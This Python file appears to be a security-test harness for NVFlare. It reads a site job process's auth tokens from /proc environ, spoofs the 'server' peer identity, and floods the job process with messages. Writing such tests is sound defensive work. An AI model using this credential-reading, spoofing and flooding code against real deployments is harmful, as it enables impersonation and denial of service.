"""Somebody in NVFlare's net who is not the server, and sends what he likes to a site's job process.

He is a process at the victim, which connects to the plain listener that NVFlare has for job processes; or another site
with a certificate, which connects to its own and has the server route for it. `python -m tests.deploy.attacker PLAN`
runs the plan in a JSON file and writes what came back to the plan's `codes`.
"""

import json
import os
import re
import sys
import time
from pathlib import Path
from typing import Any

from nvflare.apis.shareable import Shareable
from nvflare.apis.utils.decomposers import flare_decomposers
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.net_agent import NetAgent
from nvflare.fuel.f3.message import Message
from nvflare.fuel.sec.authn import set_add_auth_headers_filters
from nvflare.private.defs import CellChannel

SECONDS = 30.0


def job_process(kit: Path) -> tuple[int, str, str]:
    """A site's job process: its number, its parent's listener and the job. Everybody on a machine can read these."""
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            words = (folder / "cmdline").read_bytes().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        if re.search(rf"client\.worker_process -m {re.escape(str(kit))}/", " ".join(words)):
            return int(folder.name), words[words.index("-p") + 1], words[words.index("-n") + 1]
    raise AssertionError(f"{kit}: no job process")


def own_credentials(process: int, name: str) -> list[str]:
    """What NVFlare's server gave a site to show; the site itself can read it in its own processes."""
    lines = Path(f"/proc/{process}/environ").read_text(encoding="utf-8").split("\0")
    known = dict(line.split("=", 1) for line in lines if "=" in line)
    return [name, *(known[f"NVFLARE_JOB_{key}"] for key in ("AUTH_TOKEN", "TOKEN_SIGNATURE", "SSID"))]


def memory(process: int) -> int:
    """The bytes that a process holds now."""
    line = re.search(r"VmRSS:\s+(\d+) kB", Path(f"/proc/{process}/status").read_text(encoding="ascii"))
    assert line
    return 1024 * int(line[1])


def attack(plan: dict[str, Any]) -> list[str]:
    """Send each message to the victim, then the last of them very often, then the first; the return codes."""
    flare_decomposers.register()
    cell = Cell(plan["name"], "", False, {}, create_internal_listener=False, parent_url=plan["parent"])
    NetAgent(cell)
    if plan["credentials"]:
        set_add_auth_headers_filters(cell, *plan["credentials"])
    cell.start()
    ends = time.monotonic() + SECONDS
    while not cell.core_cell.is_backbone_ready():
        assert time.monotonic() < ends, "no connection"
        time.sleep(0.1)
    to = {"channel": CellChannel.AUX_COMMUNICATION}

    def ask(topic: str, fields: dict[str, Any]) -> str:
        request = _message(fields)
        reply = cell.send_request(topic=topic, target=plan["target"], request=request, timeout=SECONDS, **to)
        return str(reply.payload.get_return_code()) if isinstance(reply.payload, Shareable) else "nothing"

    codes = [ask(topic, fields) for topic, fields in plan["messages"]]
    topic, fields = plan["messages"][-1]
    for _ in range(plan["flood"]):
        cell.fire_and_forget(topic=topic, targets=plan["target"], message=_message(fields), **to)
    codes.append(ask(*plan["messages"][0]))
    cell.stop()
    return codes


def _message(fields: dict[str, Any]) -> Message:
    made = {key: bytes.fromhex(value["hex"]) if isinstance(value, dict) else value for key, value in fields.items()}
    content = Shareable(made)
    content.set_peer_props({"__identity_name__": "server"})  # what a peer says of itself proves nothing
    return Message(payload=content)


if __name__ == "__main__":
    path = Path(sys.argv[1])
    told = json.loads(path.read_text(encoding="utf-8"))
    path.with_suffix(".codes").write_text(json.dumps(attack(told)), encoding="utf-8")
    os._exit(0)
